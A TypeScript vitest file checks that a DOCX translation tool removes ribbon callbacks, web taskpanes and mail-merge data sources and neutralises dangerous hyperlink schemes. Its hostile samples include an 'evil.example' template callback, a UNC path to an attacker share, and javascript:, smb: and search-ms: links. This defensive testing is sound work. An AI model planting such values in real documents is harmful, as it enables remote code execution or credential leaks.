import { expect, test } from 'vitest'
import { documentRelationships } from '../testing/docx/generate/parts.ts'
import { zipFiles } from '../testing/docx/generate/zip-files.ts'
import { generateFiles } from '../testing/docx/generate.ts'
import { readParts } from '../testing/docx/test-reader.ts'
import { format } from './format.ts'
import { neutralTarget } from './package/external-target.ts'

const base = generateFiles({ pages: 1 })
const relation = (id: string, type: string, target: string) =>
  `<Relationship Id="${id}" Type="${type}" Target="${target}"/>`
const related = (xml: string, ...more: string[]) => xml.replace('</Relationships>', `${more.join('')}</Relationships>`)
const rootRelations = String(base.find(({ name }) => name === '_rels/.rels')?.data)

/** A document with other parts, as it comes out. */
async function rebuilt(parts: Record<string, string>): Promise<Map<string, string>> {
  const known = new Set(base.map(({ name }) => name))
  const source = zipFiles([
    ...base.map((file) => ({ ...file, data: parts[file.name] ?? file.data })),
    ...Object.entries(parts)
      .filter(([name]) => !known.has(name))
      .map(([name, data]) => ({ name, data })),
  ])
  const { units } = await format.extract(source)
  const targets = new Map(units.map(({ id, pieces }) => [id, { id, pieces }]))
  return readParts((await format.rebuild(source, targets, { source: 'en', target: 'es' })).bytes)
}

test.each([
  ['2006/relationships/ui/extensibility', 'http://schemas.microsoft.com/office/2006/01/customui'],
  ['2007/relationships/ui/extensibility', 'http://schemas.microsoft.com/office/2009/07/customui'],
])('U5: a ribbon of the document’s own calls nobody (%s)', async (type, namespace) => {
  const parts = await rebuilt({
    'customUI/ribbon.xml': `<x:customUI xmlns:x="${namespace}" onLoad="https://evil.example/t.dotm!run"/>`,
    '_rels/.rels': related(
      rootRelations,
      relation('ui', `http://schemas.microsoft.com/office/${type}`, 'customUI/ribbon.xml'),
    ),
  })
  expect(parts.get('customUI/ribbon.xml')).toBe(`<customUI xmlns="${namespace}"/>`)
})

test('U5: no program of the web opens beside the document', async () => {
  const namespace = 'http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11'
  const parts = await rebuilt({
    'word/panes.xml': `<p:taskpanes xmlns:p="${namespace}" xmlns:r="urn:r"><p:taskpane visibility="1"><p:webextensionref r:id="a"/></p:taskpane></p:taskpanes>`,
    '_rels/.rels': related(
      rootRelations,
      relation(
        'panes',
        'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
        'word/panes.xml',
      ),
    ),
  })
  expect(parts.get('word/panes.xml')).toBe(`<taskpanes xmlns="${namespace}"/>`)
})

test('U5: the data source of a mail merge, which Word opens with the document, does not leave with it', async () => {
  const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const settings = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings'
  const parts = await rebuilt({
    'word/merge.xml': `<x:settings xmlns:x="${w}"><x:zoom x:percent="90"/><x:mailMerge><x:connectString x:val="Data Source=\\\\evil\\x.mdb"/><x:query x:val="SELECT 1"/></x:mailMerge></x:settings>`,
    'word/_rels/document.xml.rels': related(documentRelationships, relation('merge', settings, 'merge.xml')),
  })
  expect(parts.get('word/merge.xml')).not.toMatch(/mailMerge|evil|SELECT/)
  expect(parts.get('word/merge.xml')).toContain('<x:zoom x:percent="90"/>')
})

test('U5: a link opens a page, a message or a file; it starts nothing', () => {
  for (const address of [
    'javascript:x',
    'java\tscript:x',
    '\u0001javascript:x',
    'smb://x',
    'search-ms:x',
    'data:text/html,x',
  ])
    expect(neutralTarget('hyperlink', address)).toBe('about:blank')
  for (const address of [
    'https://a.example',
    'mailto:a@b.example',
    'a/b.docx',
    '#top',
    'C:\\a.docx',
    '../a:b',
    'about.html',
    '',
  ])
    expect(neutralTarget('hyperlink', address)).toBe(null)
})
